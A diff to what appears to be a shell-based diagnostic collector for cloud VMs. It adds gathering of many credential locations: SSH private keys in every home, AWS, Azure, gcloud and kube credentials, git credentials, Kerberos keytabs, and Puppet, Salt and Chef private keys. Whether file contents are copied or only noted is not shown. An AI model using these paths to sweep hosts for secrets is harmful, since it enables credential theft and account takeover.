@@ -199,6 +199,10 @@ keep_mount() { # of the options, which may hold a password, those alone that let
     esac
 }
 
+keep_docker() { # whether a password stands in it
+    case $line in *'"auth":'*) kept='"auth":' ;; *) kept= ;; esac
+}
+
 keep_identifier() { # whether there is one
     trim
     case $line in
@@ -455,6 +459,10 @@ gather_files() {
     file '' usr/lib/udev/rules.d/75-persistent-net-generator.rules lib/udev/rules.d/75-persistent-net-generator.rules
     file '' etc/sudoers.d/waagent etc/resolv.conf etc/resolvconf/resolv.conf.d/tail etc/resolvconf/resolv.conf.d/original
     file '' var/lib/waagent/provisioned var/lib/waagent/ovf-env.xml var/lib/cloud/instance var/log/waagent.log
+    file '' var/opt/azcmagent/agentconfig.json etc/opt/microsoft/mdatp/mdatp_onboard.json opt/CrowdStrike/falconstore
+    file '' opt/splunkforwarder/etc/instance.cfg opt/splunk/etc/instance.cfg var/lib/landscape/client/broker.bpickle
+    file '' etc/pki/consumer/cert.pem etc/pki/consumer/key.pem etc/insights-client/machine-id etc/krb5.keytab
+    file '' etc/salt/pki/minion/minion.pem etc/salt/minion_id etc/chef/client.pem
     for name in $histories; do file '' "root/$name"; done
 
     names_in boot/efi/EFI '*'
@@ -479,6 +487,8 @@ gather_folders() {
     folder '' 'ssh_host_*' etc/ssh
     folder '' '*.lease' var/lib/NetworkManager
     folder '' '*.yaml' etc/netplan
+    folder '' '*' etc/puppetlabs/puppet/ssl/private_keys var/lib/puppet/ssl/private_keys var/lib/azure-proxy-agent/keys
+    folder '' '*' var/lib/waagent/run-command/download var/lib/waagent/run-command-handler/download var/lib/waagent/custom-script/download
     folder '' 'ifcfg-eth*' etc/sysconfig/network
     folder '' 'S*' etc/rc3.d etc/rc.d/rc3.d etc/init.d/rc3.d
     folder '' 'ssh* wa* cloud-init*' etc/systemd/system
@@ -487,6 +497,9 @@ gather_folders() {
     done
     for library in $libraries; do folder '' 'python*' "$library"; done
     each_python packages
+    home_secrets root
+    names_in home '*'
+    each_line "$found" home_secrets
 }
 
 each_line() { # lines, function: calls it with each
@@ -527,6 +540,17 @@ home_histories() {
     if [ ! -L "/$1" ]; then
         for name in $histories; do file '' "$1/$name"; done
     fi
+}
+
+home_secrets() { # where a home keeps what signs in as its user
+    if [ -L "/$1" ]; then return; fi
+    folder '' '.git-credentials* .netrc* _netrc*' "$1"
+    folder '' 'msal_token_cache.* accessTokens.json* service_principal_entries.* TokenCache.dat*' "$1/.azure"
+    folder '' 'credentials*' "$1/.aws"
+    folder '' 'config*' "$1/.kube"
+    folder docker 'config.json*' "$1/.docker"
+    folder '' 'id_*' "$1/.ssh"
+    folder '' 'credentials.db* access_tokens.db* application_default_credentials.json*' "$1/.config/gcloud"
 }
 
 built_in() { # and what the kernel starts with
